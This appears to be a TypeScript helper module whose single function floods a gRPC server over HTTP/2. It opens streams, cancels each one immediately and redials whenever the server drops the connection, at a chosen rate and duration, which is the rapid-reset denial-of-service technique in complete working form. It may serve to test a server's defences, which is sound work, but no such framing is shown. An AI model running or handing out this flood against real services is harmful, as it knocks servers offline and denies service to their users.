import { type ClientHttp2Session, connect, constants } from "node:http2";
import { setTimeout as sleep } from "node:timers/promises";

/** One client that starts calls and cancels them at once; where its connection is ended for that, it dials again. */
export async function cancelFlood(
  address: string,
  path: string,
  message: Uint8Array,
  { perSecond, seconds }: { readonly perSecond: number; readonly seconds: number },
): Promise<{ sent: number; connections: number }> {
  const prefix = Buffer.alloc(5);
  prefix.writeUInt32BE(message.length, 1);
  const body = Buffer.concat([prefix, message]);
  const headers = { ":method": "POST", ":path": path, "content-type": "application/grpc", te: "trailers" };
  const counts = { sent: 0, connections: 0 };
  let session: ClientHttp2Session | undefined;
  const dial = () => {
    counts.connections++;
    const dialled = connect(`http://${address}`);
    dialled.on("error", () => undefined);
    return dialled;
  };
  const SLICE = 20;
  for (let slice = 0; slice < (seconds * 1000) / SLICE; slice++) {
    const due = performance.now() + SLICE;
    for (let i = 0; i < (perSecond * SLICE) / 1000; i++) {
      if (session === undefined || session.closed || session.destroyed) session = dial();
      const stream = session.request(headers);
      stream.on("error", () => undefined);
      stream.end(body);
      setImmediate(() => stream.close(constants.NGHTTP2_CANCEL));
      counts.sent++;
    }
    await sleep(Math.max(1, due - performance.now()));
  }
  session?.destroy();
  return counts;
}
